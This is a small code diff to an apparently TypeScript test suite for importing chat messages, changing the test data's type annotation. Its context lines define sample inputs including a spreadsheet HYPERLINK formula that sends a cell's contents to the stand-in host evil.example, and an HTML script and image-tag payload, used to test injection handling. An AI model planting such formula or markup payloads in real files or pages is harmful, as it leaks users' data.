@@ -1,5 +1,6 @@
 import { CHAT_MESSAGE_FIELDS, UTF8_BOM, type ChatMessage } from '@op/contracts';
 import { OpApiError, OpClient } from '@op/contracts/node';
+import type { ImportBody } from '@op/contracts/testing';
 import { ENGINES } from './support/databases';
 import { record } from './support/records';
 import { startTestApp, type TestApp, type TestTenant } from './support/test-app';
@@ -9,7 +10,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领红包")';
 const SCRIPT = '<script>alert("x")</script><img src="http://evil.example/p.png">';
 
 /** One message of every type, Chinese, emoji, a CSV formula, markup, line breaks, a recall. */
-const MESSAGES: Array<Record<string, unknown>> = [
+const MESSAGES: ImportBody[] = [
   { type: 'txt', msg: '你好，我要退款 🙏😀' },
   { type: 'txt', msg: FORMULA },
   { type: 'txt', msg: SCRIPT },
